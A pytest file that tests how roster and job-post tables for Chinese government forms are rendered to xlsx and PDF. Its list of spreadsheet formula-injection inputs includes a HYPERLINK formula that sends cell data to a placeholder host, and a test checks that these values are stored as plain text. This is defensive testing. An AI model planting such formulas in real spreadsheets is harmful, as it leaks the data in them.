"""Render stage: print-ready 附件4 / 附件5 (xlsx → PDF through Calc, converted once per module)."""

from __future__ import annotations

import datetime as dt
import re
import stat
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from lingong_docs.core.model import Record, Table
from lingong_docs.render import render_table_xlsx, render_tables_pdf
from lingong_docs.render.tables import safe_string
from lingong_docs.util.workbook import safe_text

APPLICANT = "北京示例人力资源有限公司"
USCC = "91110105MA01ABCD39"
ID = "11010519491231002X"
PHONE = "13800138000"
INJECTIONS = ["=1+1", '=HYPERLINK("http://x/?"&B1,"x")', "+1", "-1", "@SUM(1)", "\t=1", "#N/A", "张三\x07",
              "＝1+1"]


def roster(n: int, *, remarks: list | None = None) -> list[Record]:
    """Return ``n`` plain one-line roster rows (every printed row one line high)."""
    start = dt.datetime(2025, 3, 1, 8, 0)
    rows = []
    for i in range(n):
        s = start + dt.timedelta(days=i % 300, hours=i % 5)
        rows.append(Record(row=5 + i, values={
            "seq": i + 1, "name": "张三" if i % 2 else "欧阳娜娜", "id_number": ID, "phone": PHONE,
            "place": "朝阳区望京 分拣员", "start": s, "end": s + dt.timedelta(hours=8), "hours": Decimal("8"),
            "pay": Decimal("1234.5"), "method": "银行转账",
            "remark": (remarks[i] if remarks and i < len(remarks) else None)}))
    return rows


def job_posts(n: int) -> list[Record]:
    return [Record(row=5 + i, values={"seq": i + 1, "title": f"仓库分拣员{i + 1}", "category": "物流",
                                      "published": dt.datetime(2025, 1, 2), "demand": 100, "remark": ""})
            for i in range(n)]


def table(kind: str, records: list[Record]) -> Table:
    return Table(kind=kind, path=Path("x.xlsx"), sheet="附件5", header_row=4, columns={}, records=records)


@pytest.fixture(scope="module")
def printed(tmp_path_factory) -> dict:
    """Write the workbooks, then convert them all in ONE LibreOffice run (render_tables_pdf)."""
    work = tmp_path_factory.mktemp("tables")
    kw = dict(applicant=APPLICANT, uscc=USCC, year=2025)
    books = {
        "r200": (table("roster", roster(200, remarks=INJECTIONS)), kw),
        "r400": (table("roster", roster(400)), kw),
        "nopages": (table("roster", roster(60)), dict(kw, page_numbers=False)),
        "draft": (table("roster", roster(3)), dict(kw, draft=True)),
        "jobs": (table("job_posts", job_posts(50)), kw),
    }
    pdfs = render_tables_pdf([(t, work / f"{name}.xlsx", options) for name, (t, options) in books.items()],
                             work / "pdf")
    return {"xlsx": {name: work / f"{name}.xlsx" for name in books}, "pdf": dict(zip(books, pdfs))}


def pages_text(path: Path) -> list[str]:
    return [p.extract_text() for p in PdfReader(path).pages]


def flat(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("name", ["r200", "r400", "nopages", "draft", "jobs"])
def test_landscape_a4(printed, name):
    for page in PdfReader(printed["pdf"][name]).pages:
        assert abs(float(page.mediabox.width) - 842) <= 1 and abs(float(page.mediabox.height) - 595) <= 1


@pytest.mark.parametrize("name", ["r200", "jobs"])
def test_every_font_embedded(printed, name):
    rows = subprocess.run(["pdffonts", str(printed["pdf"][name])], capture_output=True, text=True,
                          check=True).stdout.splitlines()[2:]
    assert rows
    for row in rows:
        assert row.split()[-5] == "yes", row
        assert "DejaVu" not in row


def test_roster_text_title_header_block_and_full_ids(printed):
    pages = pages_text(printed["pdf"]["r200"])
    first = flat(pages[0])
    assert "附件5" in first and "2025年度撮合服务成功人员花名册" in first
    assert f"申请单位全称（盖章）：{APPLICANT}" in first and f"统一社会信用代码：{USCC}" in first
    # the bureau checks full IDs and phones: they are printed in full
    assert ID in pages[0] and PHONE in pages[0]
    assert "2025-03-0108:00" in first and "1,234.50" in first and "8.0" in first
    for n, text in enumerate(pages, start=1):
        assert "身份证号" in text and "实际结算" in text            # headers repeated on every page
        assert f"第{n}页共{len(pages)}页" in flat(text)
    last = flat(pages[-1])
    assert "申请单位（盖章）：" in last and "经办人（签字）：" in last and "日期：" in last
    assert "200" in pages[-1]
    seqs = [int(m) for t in pages for m in re.findall(r"(?m)^(\d{1,3}) ", t)]
    assert sorted(set(seqs)) == list(range(1, 201))               # every row printed once


def test_page_count_follows_row_count(printed):
    """Landscape A4 holds ~25-40 rows a page; twice the rows, about twice the pages (r200's
    remarks wrap more often than r400's)."""
    p200 = len(PdfReader(printed["pdf"]["r200"]).pages)
    p400 = len(PdfReader(printed["pdf"]["r400"]).pages)
    assert 200 / 40 <= p200 <= 200 / 25 + 1 and 400 / 40 <= p400 <= 400 / 25 + 1
    assert abs(p400 - 2 * p200) <= 2


def test_formula_injection_is_literal(printed):
    xml = zipfile.ZipFile(printed["xlsx"]["r200"]).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and 't="e"' not in xml
    ws = load_workbook(printed["xlsx"]["r200"]).worksheets[0]
    remarks = {ws.cell(r, 11).value: ws.cell(r, 11) for r in range(5, 5 + len(INJECTIONS))}
    for value in INJECTIONS:
        text, quote = safe_string(value)
        cell = remarks[text]
        assert cell.data_type == "s" and cell.quotePrefix == quote
    assert remarks["=1+1"].quotePrefix and "张三" in remarks
    text = flat("".join(pages_text(printed["pdf"]["r200"])))
    assert "=1+1" in text and '=HYPERLINK("http://x/?"&B1,"x")' in text and "#N/A" in text


@pytest.mark.parametrize("value", INJECTIONS + ["plain", "", "a\nb", "\ufffe"])
def test_safe_string_agrees_with_safe_text(value):
    cell = Workbook().active.cell(1, 1)
    safe_text(cell, value)
    text, quote = safe_string(value)
    assert text == cell.value.replace("\ufffe", "") and quote == bool(cell.quotePrefix)


def test_page_numbers_can_be_left_to_the_bundler(printed):
    text = "".join(pages_text(printed["pdf"]["nopages"]))
    assert "页" not in text.replace("页码", "")


def test_draft_is_marked(printed):
    text = flat(pages_text(printed["pdf"]["draft"])[0])
    assert "草稿" in text and "不得报送" in text and "花名册（草稿）" in text


def test_job_posts(printed):
    pages = pages_text(printed["pdf"]["jobs"])
    first = flat(pages[0])
    assert "附件4" in first and "2025年度发布岗位任务明细表" in first
    assert "岗位（任务）名称" in first and "仓库分拣员1" in first and "2025-01-02" in first
    assert "仓库分拣员50" in flat(pages[-1])


def test_only_records_passed_are_printed(tmp_path):
    rows = roster(10)
    out = render_table_xlsx(table("roster", rows), tmp_path / "some.xlsx", applicant=APPLICANT, uscc=USCC,
                            year=2025, records=(r for r in rows if r.values["seq"] % 2))
    ws = load_workbook(out).worksheets[0]
    seqs = [ws.cell(r, 1).value for r in range(5, ws.max_row + 1) if isinstance(ws.cell(r, 1).value, int)]
    assert seqs == [1, 3, 5, 7, 9]


def test_workbook_is_private_and_reproducible(tmp_path):
    t = table("roster", roster(5))
    a = render_table_xlsx(t, tmp_path / "a.xlsx", applicant=APPLICANT, uscc=USCC, year=2025)
    b = render_table_xlsx(t, tmp_path / "b.xlsx", applicant=APPLICANT, uscc=USCC, year=2025)
    assert a.read_bytes() == b.read_bytes()
    assert stat.S_IMODE(a.stat().st_mode) & 0o077 == 0
    ws = load_workbook(a).worksheets[0]
    assert ws.print_title_rows == "$4:$4"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.cell(5, 3).value == ID and ws.cell(5, 6).number_format == "yyyy-mm-dd hh:mm"
    assert ws.cell(5, 9).number_format == "#,##0.00" and ws.cell(5, 8).number_format == "0.0#"
